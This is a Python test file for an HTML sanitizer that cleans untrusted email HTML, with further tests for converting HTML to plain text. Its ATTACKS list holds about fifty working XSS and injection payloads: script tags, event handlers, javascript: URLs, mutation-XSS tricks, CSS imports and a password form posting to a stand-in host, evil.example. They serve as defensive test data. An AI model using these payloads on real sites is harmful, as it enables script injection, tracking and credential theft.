"""HTML of strangers shown in our pages: it runs nothing, loads nothing, and covers nothing."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parley.kernel.text.html_text import text_of_html
from parley.kernel.text.safe_html import ATTRIBUTES, STYLES, TAGS, sanitized
from tests.effort import examples

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='&#1;java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<img src='\ue000https://evil.example/a.png'>",
    "<body background='https://evil.example/a.png'>",
    "<table background='https://evil.example/a.png'><tr><td background=x>",
    "<div style='background:url(https://evil.example/a.png)'>x</div>",
    "<div style='background-color:url(https://evil.example/a.png)'>x</div>",
    "<div style='color:expression(alert(1))'>x</div>",
    "<div style='list-style-type:url(https://evil.example)'>x</div>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>@import 'https://evil.example/x.css'",
    "<p style=\"color:red;@import 'https://evil.example'\">x</p>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>cover</div>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button formaction=x>ok</button></form>",
    "<video poster='https://evil.example/a.png' src=x></video><audio src=x autoplay>",
    "<a id=location name=cookie class=button>x</a>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title=' src=\"\ue000https://evil.example'>x</p>",
    "<a href='https://ok.example' ping='https://evil.example' target=_top>x</a>",
    "<x-element is=x onclick=alert(1)>x</x-element>",
    "<%00script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
]  # fmt: skip
ALLOWED_STYLE = re.compile(r"[a-z-]+:(?:[#\w.,% -]+|rgba?\([0-9., %]+\))")


class _Judge(HTMLParser):
    """Reads as a browser would and refuses whatever isn't on the list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set())
        for name, value in attrs:
            text = value or ""
            if tag == "a" and name in ("rel", "target"):
                assert text in ("noopener noreferrer nofollow", "_blank")
            elif name == "data-remote-src":
                assert tag == "img"
            else:
                assert name in allowed, name
            if name == "href":
                assert re.match(r"(https?|mailto|tel):", text, re.IGNORECASE)
            if name == "src":
                assert text.lower().startswith("cid:")
            for style in text.split(";") if name == "style" and text else ():
                assert ALLOWED_STYLE.fullmatch(style), style
                assert style.partition(":")[0] in STYLES


def assert_is_harmless(html: str) -> None:
    judge = _Judge()
    judge.feed(html)
    judge.close()


@pytest.mark.parametrize("html", ATTACKS)
def test_attacks_come_to_nothing(html: str) -> None:
    for variant in (html, f"<table><tr><td>{html}", f"<b><p>{html}</b></p>", html.upper()):
        clean = sanitized(variant)
        assert_is_harmless(clean)
        assert sanitized(clean.replace("data-remote-src", "src")) == clean


PIECES = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<b style='color:red'>",
            "</b>",
            "<a href='https://a.example'>",
            "</a>",
            "<img src=x>",
        ),
        *(
            "<script>",
            "</script>",
            "<style>",
            "</style>",
            "<!--",
            "-->",
            "<svg>",
            "<math>",
            "<table>",
            "<td>",
        ),
        *(
            "'",
            '"',
            "=",
            "<",
            ">",
            "&",
            "&lt;",
            "&#x3c;",
            "\0",
            "onerror=alert(1)",
            "<select>",
            "<mglyph>",
            "x",
        ),
    ]
)


@settings(max_examples=examples(80), deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_mixture_of_pieces_gets_through(html: str) -> None:
    assert_is_harmless(sanitized(html))


def test_what_mail_looks_like_stays() -> None:
    html = (
        '<p style="color:red;background-color:rgb(1, 2, 3)" align="center"><b>Hi</b> '
        '<a href="https://a.example/?b=c">there</a></p><img src="cid:one@x">'
    )
    clean = sanitized(html)
    for kept in (
        'style="color:red;background-color:rgb(1, 2, 3)"',
        'align="center"',
        "<b>Hi</b>",
        'href="https://a.example/?b=c"',
        'src="cid:one@x"',
    ):
        assert kept in clean


def test_images_of_other_hosts_are_not_loaded_but_can_be() -> None:
    clean = sanitized('<img src="https://a.example/logo.png" alt="Logo">')
    assert clean == '<img data-remote-src="https://a.example/logo.png" alt="Logo">'


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two<br>three</p>", "one\n\ntwo\nthree"),
        ("a <b>b</b>\n  c", "a b c"),
        ("<div>a</div><div><br></div><div>b</div>", "a\n\nb"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("<ol start=1><li>a<li>b</ol>", "1. a\n2. b"),
        ('<a href="https://x.example/a">here</a>', "here <https://x.example/a>"),
        ('<a href="https://x.example/">https://x.example</a>', "https://x.example"),
        (
            "<div>new</div><blockquote>old<blockquote>older</blockquote></blockquote>",
            "new\n\n> old\n>\n> > older",
        ),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<img alt='A cat'>", "[A cat]"),
        ("<head><title>t</title><style>p{}</style></head>x", "x"),
        ("&lt;b&gt; &amp; &nbsp;c", "<b> & \xa0c"),
        ("", ""),
    ],
)
def test_html_is_read_as_text(html: str, text: str) -> None:
    assert text_of_html(sanitized(html)) == text
